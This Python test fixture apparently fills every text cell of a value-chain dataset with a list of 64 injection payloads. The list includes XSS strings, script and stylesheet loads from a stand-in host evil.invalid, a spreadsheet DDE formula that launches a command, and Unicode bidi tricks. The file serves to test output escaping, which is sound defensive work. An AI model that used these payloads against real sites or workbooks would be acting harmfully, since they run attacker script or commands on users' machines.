"""What an attacker would write into a workbook, and a filière in which every cell of text tries one of these."""

from __future__ import annotations

from itertools import count
from typing import Any

from chaine_valeur.filiere import Filiere
from chaine_valeur.schema import Column, reference_targets, tables
from chaine_valeur.vocabulary import vocabulary

#: Each would leave a trace, `window.hit`, a dialog, a request or a complaint, if any browser made anything of it.
PAYLOADS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=2</script>",
    "<ScRiPt >window.hit=3</sCrIpT\t>",
    "<script src=//evil.invalid/4.js></script>",
    "<scr<script>ipt>window.hit=5</scr</script>ipt>",
    "<script type=module>window.hit=6</script>",
    "<img src=x onerror=window.hit=7>",
    "\"><img src=x onerror=\"window.hit=8\">",
    "'><img src=x onerror='window.hit=9'>",
    "<img/src=`x`onerror=window.hit=10>",
    "<IMG SRC=\"javascript:window.hit=11\">",
    "<img src=x:x onerror\n=window.hit=12>",
    "<svg onload=window.hit=13>",
    "<svg><script>window.hit=14</script></svg>",
    "<svg><animate onbegin=window.hit=15 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"></use></svg>",
    "<svg><foreignObject><iframe src=javascript:window.hit=17></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hit=18>",
    "<body onload=window.hit=19>",
    "<iframe src=javascript:window.hit=20></iframe>",
    "<iframe srcdoc=\"<script>parent.hit=21</script>\"></iframe>",
    "<object data=javascript:window.hit=22></object>",
    "<embed src=javascript:window.hit=23>",
    "<details open ontoggle=window.hit=24><summary>x</summary></details>",
    "<video><source onerror=window.hit=25></video>",
    "<audio src=x onerror=window.hit=26></audio>",
    "<input autofocus onfocus=window.hit=27>",
    "<select autofocus onfocus=window.hit=28></select></select>",
    "<marquee onstart=window.hit=29>x</marquee>",
    "<form action=javascript:window.hit=30><button>x</button></form>",
    "<a href=\"javascript:window.hit=31\">cliquez</a>",
    "<a href=\"jav&#x09;ascript:window.hit=32\">cliquez</a>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.hit=34\">",
    "<link rel=stylesheet href=//evil.invalid/35.css>",
    "<style>@import '//evil.invalid/36.css';</style>",
    "</style><script>window.hit=37</script>",
    "\"; } body { background: url(//evil.invalid/38.png) } /*",
    "</title><script>window.hit=39</script>",
    "</textarea><script>window.hit=40</script>",
    "</select><script>window.hit=41</script>",
    "</noscript><img src=x onerror=window.hit=42>",
    "--><script>window.hit=43</script><!--",
    "<!--<script>window.hit=44",
    "]]><script>window.hit=45</script>",
    "<![CDATA[<img src=x onerror=window.hit=46>]]>",
    "&lt;script&gt;window.hit=47&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=48&#62;",
    "\\u003cscript\\u003ewindow.hit=49\\u003c/script\\u003e",
    "\" autofocus onfocus=window.hit=50 x=\"",
    "' onmouseover=window.hit=51 x='",
    "{{ constructor.constructor('window.hit=52')() }} {% x %} ${window.hit=52}",
    "javascript:window.hit=53",
    "JaVaScRiPt:window.hit=54//https://example.org/",
    "data:text/html,<script>window.hit=55</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9NTYiLz4=",
    "vbscript:msgbox(57)",
    "https://evil.invalid/\" onclick=window.hit=58 x=\"",
    "'; window.hit=59; '",
    "\u2028window.hit=60\u2029",
    "\u202etxt.cod\u202c \u2066\u200f<b>61</b>",
    "\ufeff\U0001f9f5\u0000\u0007<b>62</b>",
    "=cmd|' /C calc'!A63",
    "$\\frac{64}{",
)  # fmt: skip


def _cell(column: Column, row: int, ids: dict[str, list[str]], text: str) -> Any:
    target = reference_targets(column)
    if target is not None:
        known = ids[target[0]]
        # two references of one row differ
        return known[(row + sum(map(ord, column.name))) % len(known)]
    if column.vocabulary:
        terms = [term.value for term in vocabulary(column.vocabulary)]
        return terms[row % len(terms)]
    fixed = {
        "number": 10 + row, "share": 0.25, "integer": row + 1, "year": 2022, "date": "01/02/2022", "boolean": None,
        "siret": None, "naf": "38.32Z", "commune": "76384", "rome": None,
    }  # fmt: skip
    return fixed.get(column.type, text)


def everywhere(rows: int = len(PAYLOADS)) -> Filiere:
    """Return a filière in which every text of every table, and every identifier, is one of `PAYLOADS`.

    Each table has `rows` rows (one that of the filière), so that with as many as there are payloads every column
    of text holds each of them; some rows more refer to nobody and are set aside.
    """
    turn = count()
    keys = [text.replace(";", ",") for text in PAYLOADS[:rows]]  # parts of a list are joined by it
    ids = {name: keys for name in tables()}
    ids["territories"] = ["T"]
    told: dict[str, dict[str, list[Any]]] = {}
    for name, home in tables().items():
        number = 1 if name == "filiere" else rows
        told[name] = {}
        for column in home:
            start = next(turn)
            if column.name == home.key:
                told[name][column.name] = keys[:number]
                continue
            said = [PAYLOADS[(row + start) % len(PAYLOADS)] for row in range(number)]
            told[name][column.name] = [_cell(column, row, ids, text) for row, text in enumerate(said)]
    told["territories"]["territory_id"] = ["T"] * rows
    told["territories"]["commune_code"] = [f"76{row:03d}" for row in range(rows)]
    told["filiere"] |= {"name": [" ".join(PAYLOADS)], "territory_id": ["T"]}
    for name in ("natural_person", "in_territory"):
        told["actors"].pop(name, None)
    told["actors"]["status"] = ["active"] * rows
    told["actors"][PAYLOADS[6]] = list(PAYLOADS[:rows])  # a column of one's own
    told["cooperations"]["state"] = ["observed"] * rows
    told["flows"] |= {"same_flow_as": [None] * rows, "status": ["active"] * rows}
    # each needs the one before, the last the first too: no circle
    told["option_links"] |= {"option_id": [*keys[1:], keys[-1]], "needs_option_id": [*keys[:-1], keys[0]]}
    told["cell_sources"] |= {"table": ["actors"] * rows, "row_id": ids["actors"], "column": ["roles"] * rows}
    aside = {column: [*values, values[0]] for column, values in told["activities"].items()}
    aside |= {
        "activity_id": [*told["activities"]["activity_id"], "aside"],
        "actor_id": [*told["activities"]["actor_id"], f"nobody {PAYLOADS[7]}"],
    }
    told["activities"] = aside
    given: dict[str, Any] = told
    return Filiere.from_tables(**given, strict=False)
